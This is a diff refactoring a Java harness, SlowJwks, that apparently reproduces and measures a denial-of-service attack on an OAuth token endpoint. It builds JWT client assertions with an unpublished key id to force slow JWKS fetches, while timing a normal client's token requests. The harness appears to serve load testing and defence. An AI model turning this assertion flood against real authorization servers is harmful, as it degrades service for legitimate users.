@@ -134,29 +134,14 @@ public final class SlowJwks {
         // The normal client, from before the attack until every attack request is answered.
         AtomicBoolean attackOver = new AtomicBoolean();
         List<Long> normalMillis = Collections.synchronizedList(new ArrayList<>());
-        Map<Integer, Integer> normalStatuses = Collections.synchronizedMap(new TreeMap<>());
-        String basic = "Basic " + Base64.getEncoder()
-                .encodeToString((normalId + ":" + normalSecret).getBytes(StandardCharsets.UTF_8));
+        Map<Long, Integer> normalStatuses = Collections.synchronizedMap(new TreeMap<>());
+        String basic = "Basic "
+                + Base64.getEncoder().encodeToString((normalId + ":" + normalSecret).getBytes(StandardCharsets.UTF_8));
         Thread normal = new Thread(() -> {
-            while (!attackOver.get()) {
-                long t0 = System.nanoTime();
-                int status;
-                try {
-                    status = http.send(
-                                    HttpRequest.newBuilder(token)
-                                            .timeout(Duration.ofSeconds(60))
-                                            .header("Authorization", basic)
-                                            .header("Content-Type", "application/x-www-form-urlencoded")
-                                            .POST(HttpRequest.BodyPublishers.ofString("grant_type=client_credentials"))
-                                            .build(),
-                                    HttpResponse.BodyHandlers.ofString())
-                            .statusCode();
-                } catch (IOException e) {
-                    status = -1;
-                } catch (InterruptedException e) {
-                    return;
-                }
-                normalMillis.add(TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - t0));
+            while (!attackOver.get() && !Thread.currentThread().isInterrupted()) {
+                long[] r = post(http, token, "grant_type=client_credentials", basic);
+                long status = r[0];
+                normalMillis.add(r[1]);
                 normalStatuses.merge(status, 1, Integer::sum);
             }
         });
@@ -188,11 +173,11 @@ public final class SlowJwks {
         attackOver.set(true);
         normal.join();
         attackers.shutdownNow();
-        System.out.println("RESULT attack requests=" + requests + " answers_by_status=" + byStatus
-                + " " + percentiles(millis) + " answered_after_4s_or_more=" + waited + " all_answered_ms=" + total);
+        System.out.println("RESULT attack requests=" + requests + " answers_by_status=" + byStatus + " "
+                + percentiles(millis) + " answered_after_4s_or_more=" + waited + " all_answered_ms=" + total);
         System.out.println("RESULT attack jwks_fetches=" + fetches.get() + " most_fetches_at_once=" + mostOpen.get());
-        System.out.println("RESULT normal_client_during_attack tokens=" + normalMillis.size()
-                + " by_status=" + normalStatuses + " " + percentiles(normalMillis));
+        System.out.println("RESULT normal_client_during_attack tokens=" + normalMillis.size() + " by_status="
+                + normalStatuses + " " + percentiles(normalMillis));
 
         host.stop(0);
         hostThreads.shutdownNow();
@@ -205,19 +190,25 @@ public final class SlowJwks {
                 + "&client_assertion_type=urn%3Aietf%3Aparams%3Aoauth%3Aclient-assertion-type%3Ajwt-bearer"
                 + "&client_assertion=" + assertion
                 + (clientId.length > 0 ? "&client_id=" + clientId[0] : "");
+        return post(http, token, body, null);
+    }
+
+    /** Status (-1: no answer within 60 s, or the connection failed) and milliseconds of one form POST. */
+    private static long[] post(HttpClient http, URI token, String body, String authorization) {
+        HttpRequest.Builder request = HttpRequest.newBuilder(token)
+                .timeout(Duration.ofSeconds(60))
+                .header("Content-Type", "application/x-www-form-urlencoded")
+                .POST(HttpRequest.BodyPublishers.ofString(body));
+        if (authorization != null) {
+            request.header("Authorization", authorization);
+        }
         long t0 = System.nanoTime();
         long status;
         try {
-            status = http.send(
-                            HttpRequest.newBuilder(token)
-                                    .timeout(Duration.ofSeconds(60))
-                                    .header("Content-Type", "application/x-www-form-urlencoded")
-                                    .POST(HttpRequest.BodyPublishers.ofString(body))
-                                    .build(),
-                            HttpResponse.BodyHandlers.ofString())
+            status = http.send(request.build(), HttpResponse.BodyHandlers.ofString())
                     .statusCode();
         } catch (IOException e) {
-            status = -1; // no answer within 60 s, or the connection failed
+            status = -1;
         } catch (InterruptedException e) {
             Thread.currentThread().interrupt();
             status = -2;
@@ -229,8 +220,8 @@ public final class SlowJwks {
     private static String assertion(KeyPair key, String client, String issuer) throws Exception {
         long now = System.currentTimeMillis() / 1000;
         String header = "{\"alg\":\"ES256\",\"kid\":\"not-published\"}";
-        String claims = "{\"iss\":\"" + client + "\",\"sub\":\"" + client + "\",\"aud\":\"" + issuer
-                + "\",\"iat\":" + now + ",\"exp\":" + (now + 120) + ",\"jti\":\"" + UUID.randomUUID() + "\"}";
+        String claims = "{\"iss\":\"" + client + "\",\"sub\":\"" + client + "\",\"aud\":\"" + issuer + "\",\"iat\":"
+                + now + ",\"exp\":" + (now + 120) + ",\"jti\":\"" + UUID.randomUUID() + "\"}";
         Base64.Encoder b64 = Base64.getUrlEncoder().withoutPadding();
         String input = b64.encodeToString(header.getBytes(StandardCharsets.UTF_8)) + "."
                 + b64.encodeToString(claims.getBytes(StandardCharsets.UTF_8));
